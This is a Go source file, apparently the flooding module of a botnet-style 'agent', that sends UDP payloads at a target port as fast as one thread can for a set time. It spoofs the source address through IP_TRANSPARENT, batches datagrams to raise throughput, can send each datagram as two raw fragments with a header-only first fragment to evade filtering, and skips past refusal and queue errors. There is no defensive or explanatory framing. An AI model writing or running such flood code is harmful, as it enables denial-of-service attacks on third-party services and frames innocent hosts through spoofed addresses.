package agent

import (
	"encoding/binary"
	"errors"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// Flood asks for a payload to be sent to a port as fast as one thread can, for a time.
type Flood struct {
	From      netip.Addr // may be somebody else's
	To        netip.AddrPort
	Payload   []byte
	Fragments bool // each datagram in two
	Time      time.Duration
}

// Flood sends, and counts datagrams.
func (a *Agent) Flood(in Flood, sent *int64) error {
	send, done, err := in.open()
	if err != nil {
		return err
	}
	defer done()
	for deadline := time.Now().Add(in.Time); time.Now().Before(deadline); {
		n, err := send()
		*sent += int64(n)
		switch {
		case err == nil, errors.Is(err, unix.ECONNREFUSED), errors.Is(err, unix.ENOBUFS), errors.Is(err, unix.EAGAIN), errors.Is(err, unix.EPERM):
		default: // above: the closed port answers, a queue is full
			return err
		}
	}
	return nil
}

func (f Flood) open() (send func() (int, error), done func(), err error) {
	if f.Fragments {
		return f.openRaw()
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return nil, nil, err
	}
	done = func() { unix.Close(fd) }
	err = errors.Join(
		unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_TRANSPARENT, 1), // From need not be here
		unix.Bind(fd, &unix.SockaddrInet4{Addr: f.From.As4()}),
		unix.Connect(fd, &unix.SockaddrInet4{Addr: f.To.Addr().As4(), Port: int(f.To.Port())}),
		unix.SetsockoptInt(fd, unix.IPPROTO_UDP, unix.UDP_SEGMENT, len(f.Payload)))
	if err != nil {
		done()
		return nil, nil, err
	}
	var batch []byte
	n := min(60, 60000/len(f.Payload))
	for range n {
		batch = append(batch, f.Payload...)
	}
	return func() (int, error) {
		if _, err := unix.Write(fd, batch); err != nil {
			return 0, err
		}
		return n, nil
	}, done, nil
}

// openRaw sends each datagram in two fragments, the first with no more than the UDP header.
func (f Flood) openRaw() (send func() (int, error), done func(), err error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return nil, nil, err
	}
	to := &unix.SockaddrInet4{Addr: f.To.Addr().As4()}
	parts := fragment(Datagram(f.From, f.To.Addr(), 30000, f.To.Port(), f.Payload))
	id := uint16(0)
	return func() (int, error) {
		id++
		for _, p := range parts {
			binary.BigEndian.PutUint16(p[4:], id) // the kernel fills in the checksum (raw(7))
			if err := unix.Sendto(fd, p, 0, to); err != nil {
				return 0, err
			}
		}
		return 1, nil
	}, func() { unix.Close(fd) }, nil
}
